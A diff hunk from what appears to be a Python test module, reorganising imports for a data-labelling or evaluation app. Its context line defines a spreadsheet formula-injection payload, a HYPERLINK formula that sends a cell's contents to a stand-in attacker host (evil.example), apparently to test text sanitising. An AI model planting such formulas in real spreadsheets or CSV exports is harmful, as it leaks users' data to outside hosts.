@@ -15,12 +15,12 @@ from data_helpers import csv_bytes, routing, ticket_rows
 from pages_helpers import app_as
 from teacher_helpers import make_dataset
 
-from core import textsafe
 from core.cli import cli
-from core.config import get_settings
 from core.data import holdout
+from core.domain import textsafe
 from core.evaluation import imports, runs
-from core.governance import gate
+from core.gate import gate
+from core.store.config import get_settings
 from core.teacher import runs as teacher_runs
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
